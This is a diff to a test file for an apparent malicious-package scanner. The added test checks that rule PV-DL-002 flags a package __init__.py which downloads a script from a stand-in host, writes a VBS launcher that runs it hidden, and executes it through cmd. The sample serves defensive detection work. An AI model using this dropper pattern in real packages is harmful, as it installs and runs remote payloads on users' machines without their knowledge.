@@ -708,6 +708,16 @@ def test_a_job_script_the_code_writes_itself_is_not_the_download() -> None:
         path="acme/__init__.py",
     )
     assert severities(RULES, fetched, "PV-DL-002") == [Severity.CRITICAL]
+    # a composed launcher that names the downloaded program is how the download runs
+    launcher = py(
+        "import subprocess, urllib.request\n"
+        "urllib.request.urlretrieve('https://h.example/pay.py', 'C:\\\\Users\\\\Public\\\\winenv.py')\n"
+        "with open('C:\\\\Users\\\\Public\\\\run.vbs', 'w') as f:\n"
+        '    f.write(\'CreateObject("WScript.Shell").Run "python C:\\\\Users\\\\Public\\\\winenv.py", 0\')\n'
+        "subprocess.call('cmd /c C:\\\\Users\\\\Public\\\\run.vbs')\n",
+        path="acme/__init__.py",
+    )
+    assert severities(RULES, launcher, "PV-DL-002") == [Severity.CRITICAL]
 
 
 def test_container_image_steps_run_in_the_image_not_here() -> None:
